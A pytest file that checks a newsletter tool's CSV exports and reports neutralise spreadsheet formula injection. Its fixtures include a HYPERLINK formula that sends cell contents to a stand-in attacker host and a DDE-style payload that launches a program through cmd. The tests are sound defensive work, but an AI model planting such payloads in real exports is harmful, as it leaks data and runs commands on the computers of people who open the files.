"""CSV formula injection: no cell of any CSV we write runs as a spreadsheet formula.

A name typed into the public form, a browser's User-Agent and a provider's bounce text
are all untrusted; ``subscribers export`` and ``report --csv`` neutralise every cell
that starts with = + - @ (or a tab / carriage return) through one shared function.
On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from flask import Flask
from helpers import read_outbox
from test_webhook_helpers import WEBHOOK_ENV, postmark_post, webhook_app

from pipeline.cli import cli
from pipeline.csvout import csv_writer, safe_cell, strip_neutraliser
from pipeline.settings import load_settings
from subscribers.models import NewSubscriber
from subscribers.store import Store
from subscribers.web import create_app

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
EVIL_AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("Ann = Bob", "Ann = Bob"),  # only the start of a cell matters
        ("", ""),
        (42, 42),
        (-3, -3),  # numbers are written as numbers
        (None, None),
    ],
)
def test_safe_cell(value: object, cell: object) -> None:
    assert safe_cell(value) == cell
    if isinstance(value, str):
        assert strip_neutraliser(safe_cell(value)) == value


def test_the_shared_writer_neutralises_every_column() -> None:
    out = io.StringIO()
    writer = csv_writer(out, ["a", "b", "c"])
    writer.writeheader()
    writer.writerow({"a": "=1", "b": "@x", "c": 7})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["a", "b", "c"], ["'=1", "'@x", "7"]]


@pytest.fixture
def env(project: Path, test_env: dict[str, str], db_env: dict[str, str]) -> dict[str, str]:
    return {
        **test_env,
        **WEBHOOK_ENV,
        "NEWSLETTER_CONFIG": str(project / "newsletter.toml"),
        "NEWSLETTER_SIGNUP_RATE_LIMIT": "0",
        **db_env,
    }


def run(env: dict[str, str], *args: str) -> Result:
    result = CliRunner().invoke(cli, list(args), env=env)
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def app(project: Path, env: dict[str, str]) -> Iterator[Flask]:
    app = create_app(load_settings(project / "newsletter.toml", env=env), provider=None)
    yield app
    app.extensions["newsletter"].store.close()


def sign_up_through_the_form(app: Flask, email: str, name: str) -> None:
    client = app.test_client()
    resp = client.post(
        "/subscribe", data={"email": email, "name": name}, headers={"User-Agent": EVIL_AGENT}
    )
    assert resp.status_code == 200


def test_export_csv_neutralises_what_the_form_let_in(
    app: Flask, env: dict[str, str], tmp_path: Path
) -> None:
    sign_up_through_the_form(app, "mallory@example.com", EVIL_NAME)
    sign_up_through_the_form(app, "phone@example.com", "+1 555 0100")
    out = tmp_path / "export.csv"
    run(env, "subscribers", "export", "-o", str(out))
    rows = {r["email"]: r for r in csv.DictReader(out.open(encoding="utf-8", newline=""))}
    assert rows["mallory@example.com"]["name"] == "'" + EVIL_NAME
    assert rows["mallory@example.com"]["consent_user_agent"] == "'" + EVIL_AGENT
    assert rows["phone@example.com"]["name"] == "'+1 555 0100"
    for row in rows.values():  # no cell anywhere starts a formula
        assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in row.values())
    # JSON is not for spreadsheets: it keeps the values exactly as stored
    data = json.loads(run(env, "subscribers", "export", "--format", "json").stdout)
    assert {r["name"] for r in data} == {EVIL_NAME, "+1 555 0100"}


def test_an_exported_file_imports_back_unchanged(
    app: Flask, env: dict[str, str], tmp_path: Path
) -> None:
    sign_up_through_the_form(app, "mallory@example.com", EVIL_NAME)
    out = tmp_path / "export.csv"
    run(env, "subscribers", "export", "-o", str(out))
    other = {**env, "NEWSLETTER_DATABASE_URL": f"sqlite:///{tmp_path / 'other.db'}"}
    run(other, "subscribers", "import", str(out))
    with Store(other["NEWSLETTER_DATABASE_URL"]) as store:
        assert store.find("mallory@example.com").name == EVIL_NAME


def test_report_csv_neutralises_addresses_and_provider_text(
    project: Path, env: dict[str, str]
) -> None:
    """An address may itself start with = or - (both are valid in the local part)."""
    from send_helpers import CONSENT, fill

    settings = load_settings(project / "newsletter.toml", env=env)
    with Store.from_settings(settings) as store:
        fill(store, 1)
        rows = [NewSubscriber(e, "", ("updates",)) for e in ("=2+3@example.com", "-x@example.com")]
        store.add_many(rows, confirmed=True, consent=CONSENT)
    run(env, "send", "hip-hinge", "--yes")
    message_ids = {
        m["To"].addresses[0].addr_spec: m["Message-ID"]
        for m in read_outbox(project / "var" / "outbox")
    }
    with webhook_app(project, env) as hook:
        bounce = {
            "RecordType": "Bounce",
            "ID": 42,
            "Type": "HardBounce",
            "TypeCode": 1,
            "Email": "=2+3@example.com",
            "Details": "550 unknown",
            "BouncedAt": "2026-11-23T16:33:54Z",
            "Metadata": {"message_id": message_ids["=2+3@example.com"]},
        }
        assert postmark_post(hook.client, bounce).status_code == 200
    text = run(env, "report", "hip-hinge", "--csv").output
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"reader0@example.com", "'=2+3@example.com", "'-x@example.com"}
    assert rows["'=2+3@example.com"]["last_event"] == "bounced (hard)"
